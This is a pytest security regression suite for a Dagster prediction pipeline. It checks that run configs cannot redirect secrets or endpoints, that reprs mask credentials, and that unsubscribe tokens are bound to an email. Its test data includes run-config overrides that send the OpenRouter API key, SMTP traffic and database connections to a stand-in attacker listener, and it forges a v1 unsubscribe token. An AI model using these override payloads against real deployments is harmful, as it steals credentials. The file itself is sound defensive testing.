"""Secrets and endpoints come from the environment only; reprs and tokens give nothing away.

- a run's config cannot redirect a key or a message (`resources.<key>.config.<field>`): the run
  fails at resource setup with a clear error, and the stand-in attacker sees no connection;
- reprs of the settings, renderers and resources mask passwords, secrets, keys and URLs;
- the built-in development unsubscribe secret refuses to mail real recipients;
- unsubscribe tokens are bound to the user's email as well as the id.
"""

from __future__ import annotations

import datetime as dt
import socketserver
import threading

import dagster as dg
import pytest
import sqlalchemy as sa

from prediction_pipeline.clients.email import SmtpTransport, parse_smtp_url
from prediction_pipeline.core.digests import (
    DEV_UNSUBSCRIBE_SECRET,
    DigestRenderer,
    InvalidUnsubscribeToken,
    make_unsubscribe_token,
    unsubscribe_token_user_id,
    verify_unsubscribe_token,
)
from prediction_pipeline.defs.digests import definitions as digests
from prediction_pipeline.defs.markets import definitions as markets
from prediction_pipeline.defs.on_demand import definitions as on_demand
from prediction_pipeline.defs.on_demand.sensors import SESSION_OPS
from prediction_pipeline.defs.predictions import definitions as predictions
from prediction_pipeline.resources import (
    AlertSettings,
    AppDatabase,
    DigestSettings,
    EmailTransportResource,
    Forecasters,
    default_resources,
)
from prediction_pipeline.services import on_demand as on_demand_service
from prediction_pipeline.store import migrate
from prediction_pipeline.store import models as model_store
from prediction_pipeline.store.db import make_engine
from prediction_pipeline_tests.fakes.gamma_server import FakeGammaServer, gamma_market
from prediction_pipeline_tests.pipeline_helpers import ingest_days

DAY = "2026-11-02"
API_KEY = "sk-or-v1-the-real-key-0123456789"
SMTP_PASSWORD = "the-real-smtp-password"
WEBHOOK = "https://hooks.slack.example/services/T000/B000/the-webhook-secret"
UNSUBSCRIBE_SECRET = "the-real-unsubscribe-secret"


class Listener:
    """A loopback TCP server standing in for an attacker's host: it records every connection
    (HTTP or SMTP alike) and closes it without a word."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        outer = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(1)
                try:
                    outer.connections.append(self.request.recv(65536))
                except OSError:
                    outer.connections.append(b"")

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker():
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def sqlite_url(tmp_path) -> str:
    """A migrated SQLite app database: these tests are about configuration, not storage."""
    url = f"sqlite:///{tmp_path / 'app.db'}"
    engine = make_engine(url)
    migrate.upgrade(engine)
    engine.dispose()
    return url


@pytest.fixture
def production_env(monkeypatch, sqlite_url):
    """The environment of a production code location, with real-looking secrets."""
    env = {
        "PREDICTION_PIPELINE_DATABASE_URL": sqlite_url,
        "OPENROUTER_API_KEY": API_KEY,
        "PREDICTION_PIPELINE_MARKET_SOURCE": "polymarket",
        "PREDICTION_PIPELINE_SMTP_URL": f"smtp://mailer:{SMTP_PASSWORD}@127.0.0.1:9",
        "PREDICTION_PIPELINE_UNSUBSCRIBE_SECRET": UNSUBSCRIBE_SECRET,
        "PREDICTION_PIPELINE_ALERT_WEBHOOK_URL": WEBHOOK,
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    return env


def _definitions() -> dg.Definitions:
    """What `prediction_pipeline/definitions.py` builds, from the current environment."""
    return dg.Definitions.merge(
        markets.defs,
        predictions.defs,
        digests.defs,
        on_demand.defs,
        dg.Definitions(resources=default_resources(), executor=dg.in_process_executor),
    )


def _failure_text(result: dg.ExecuteInProcessResult) -> str:
    events = [e for e in result.all_events if e.is_failure]
    return " ".join(str(e.event_specific_data.error) for e in events if e.event_specific_data)


# -- item 9: no per-run override of secrets and endpoints -----------------------------------


OVERRIDES = [
    # job, partition, resource, its config in the run (the attacker's host filled in), ops
    (
        "prediction_request_job",
        None,
        "forecasters",
        {"openrouter_base_url": "http://127.0.0.1:{port}"},
        {"ops": {"fulfil_request": {"config": {"request_id": "r-1"}}}},
    ),
    (
        "prediction_session_job",
        None,
        "forecasters",
        {"openrouter_base_url": "http://127.0.0.1:{port}", "timeout_seconds": 5},
        {},
    ),
    ("markets_job", DAY, "market_source", {"gamma_url": "http://127.0.0.1:{port}"}, {}),
    ("digests_job", DAY, "email_transport", {"smtp_url": "smtp://127.0.0.1:{port}"}, {}),
    ("digests_job", DAY, "digest_settings", {"public_url": "http://127.0.0.1:{port}"}, {}),
    ("markets_job", DAY, "app_db", {"url": "postgresql://u:p@127.0.0.1:{port}/x"}, {}),
]


@pytest.mark.parametrize(("job", "partition", "resource", "override", "ops"), OVERRIDES)
def test_run_config_cannot_redirect_a_secret_or_an_endpoint(
    production_env, attacker, job, partition, resource, override, ops
):
    config = {
        k: v.format(port=attacker.port) if isinstance(v, str) else v for k, v in override.items()
    }
    if job == "prediction_session_job":
        ops = {"ops": {name: {"config": {"session_id": "s-1"}} for name in SESSION_OPS}}
    run_config = {**ops, "resources": {resource: {"config": config}}}
    with dg.DagsterInstance.ephemeral() as instance:
        result = (
            _definitions()
            .resolve_job_def(job)
            .execute_in_process(
                run_config=run_config,
                instance=instance,
                partition_key=partition,
                raise_on_error=False,
            )
        )
        logs = " ".join(e.message or "" for e in instance.all_logs(result.run_id))
    assert not result.success
    error = _failure_text(result)
    assert f"this run's config sets resources.{resource}: not allowed" in error
    assert "from the environment only" in error
    assert f"Remove `resources.{resource}` from the run config" in error
    assert attacker.connections == []  # nothing reached the other host
    for secret in (API_KEY, SMTP_PASSWORD, UNSUBSCRIBE_SECRET, "the-webhook-secret"):
        assert secret not in logs and secret not in error


def test_a_queued_request_cannot_send_the_key_to_another_host(production_env, sqlite_url, attacker):
    """The reported attack: a launch of a real request (OpenRouter model, queued row) with
    `openrouter_base_url` pointing elsewhere. Before the fix the other host got
    `Authorization: Bearer <the real key>`; now the run stops at resource setup."""
    today = dt.datetime.now(dt.UTC).date()
    engine = make_engine(sqlite_url)
    with dg.DagsterInstance.ephemeral() as instance:
        ingest_days(sqlite_url, instance, days=1, end=today, size=20)
        with engine.begin() as conn:
            model_store.upsert_model(conn, model_store.ModelSpec("acme/model-1", "openrouter"))
            market_id = conn.scalar(sa.text("SELECT id FROM markets LIMIT 1"))
        on_demand_service.grant(engine, "ada@example.com", 1)
        request_id = on_demand_service.request_prediction(
            engine, market_id, "acme/model-1", user_email="ada@example.com"
        )
        run_config = {
            "ops": {"fulfil_request": {"config": {"request_id": request_id}}},
            "resources": {
                "forecasters": {
                    "config": {
                        "openrouter_base_url": f"http://127.0.0.1:{attacker.port}",
                        # A run config entry replaces the resource's values (Dagster 1.13):
                        # the attacker names the key's variable to get it back.
                        "openrouter_api_key": {"env": "OPENROUTER_API_KEY"},
                        "max_http_attempts": 1,
                    }
                }
            },
        }
        result = (
            _definitions()
            .resolve_job_def("prediction_request_job")
            .execute_in_process(run_config=run_config, instance=instance, raise_on_error=False)
        )
    engine.dispose()
    assert attacker.connections == []  # before the fix: a POST with "Bearer <the real key>"
    assert not result.success
    assert "Remove `resources.forecasters` from the run config" in _failure_text(result)


def test_the_environment_endpoint_is_used_without_an_override(
    production_env, monkeypatch, attacker
):
    """The same Definitions, no run config: the Gamma host of the environment is asked."""
    with FakeGammaServer([gamma_market(i) for i in range(5)]) as gamma:
        monkeypatch.setenv("POLYMARKET_GAMMA_URL", gamma.url)
        with dg.DagsterInstance.ephemeral() as instance:
            result = (
                _definitions()
                .resolve_job_def("markets_job")
                .execute_in_process(instance=instance, partition_key=dt.date.today().isoformat())
            )
        assert result.success
        assert gamma.recorded()
    assert attacker.connections == []


# -- item 11: reprs ----------------------------------------------------------------------


def test_reprs_mask_passwords_secrets_keys_and_urls():
    smtp_url = f"smtp://mailer:{SMTP_PASSWORD}@mail.example.com:587"
    settings = parse_smtp_url(smtp_url)
    objects = [
        settings,
        SmtpTransport(settings),
        DigestRenderer(UNSUBSCRIBE_SECRET),
        Forecasters(openrouter_api_key=API_KEY),
        EmailTransportResource(smtp_url=smtp_url),
        DigestSettings(unsubscribe_secret=UNSUBSCRIBE_SECRET),
        AlertSettings(webhook_url=WEBHOOK),
        AppDatabase(url=f"postgresql://app:{SMTP_PASSWORD}@db.example.com/app"),
    ]
    for obj in objects:
        for text in (repr(obj), str(obj), f"{obj!r:}"):
            for secret in (SMTP_PASSWORD, UNSUBSCRIBE_SECRET, API_KEY, "the-webhook-secret"):
                assert secret not in text, text
    assert "mail.example.com" in repr(settings) and "***" in repr(settings)
    assert "hooks.slack.example" in repr(AlertSettings(webhook_url=WEBHOOK))
    env_var = Forecasters(openrouter_api_key=dg.EnvVar("OPENROUTER_API_KEY"))
    assert "OPENROUTER_API_KEY" in repr(env_var)  # the variable's name, never its value


# -- item 12: the development secret and email-bound tokens -----------------------------


def test_dev_secret_refuses_to_mail_real_recipients():
    for settings in (DigestSettings(), DigestSettings(unsubscribe_secret=DEV_UNSUBSCRIBE_SECRET)):
        with pytest.raises(ValueError, match="PREDICTION_PIPELINE_UNSUBSCRIBE_SECRET"):
            settings.renderer("smtp")
        settings.renderer("outbox")  # the offline outbox folder is fine
    DigestSettings(unsubscribe_secret=UNSUBSCRIBE_SECRET).renderer("smtp")


def test_digests_with_smtp_and_no_secret_fail_before_sending(sqlite_url, attacker):
    resources = {
        "app_db": AppDatabase(url=sqlite_url),
        "email_transport": EmailTransportResource(smtp_url=f"smtp://127.0.0.1:{attacker.port}"),
        "digest_settings": DigestSettings(),
    }
    with dg.DagsterInstance.ephemeral() as instance:
        result = dg.materialize(
            [digests.watchlist_digests],
            partition_key=DAY,
            resources=resources,
            instance=instance,
            raise_on_error=False,
        )
    assert not result.success
    error = _failure_text(result)
    assert "PREDICTION_PIPELINE_UNSUBSCRIBE_SECRET" in error
    assert attacker.connections == []


def test_token_is_bound_to_the_email_too():
    token = make_unsubscribe_token(7, UNSUBSCRIBE_SECRET, email="Ann@Example.com ")
    assert unsubscribe_token_user_id(token) == 7
    assert verify_unsubscribe_token(token, UNSUBSCRIBE_SECRET, email="ann@example.com") == 7
    # Id 7 reused by someone else, or Ann changed her address: the old link does nothing.
    for other in ("bob@example.com", "ann@example.org", ""):
        with pytest.raises(InvalidUnsubscribeToken):
            verify_unsubscribe_token(token, UNSUBSCRIBE_SECRET, email=other)
    # The v1 shape (id only) that anyone could sign with the dev secret is not accepted.
    forged_v1 = make_unsubscribe_token(7, DEV_UNSUBSCRIBE_SECRET, email="x@y").replace("v2", "v1")
    with pytest.raises(InvalidUnsubscribeToken):
        verify_unsubscribe_token(forged_v1, DEV_UNSUBSCRIBE_SECRET, email="ann@example.com")
    with pytest.raises(InvalidUnsubscribeToken):
        unsubscribe_token_user_id(forged_v1)
    assert "ann" not in token.lower()  # the email is bound, not carried
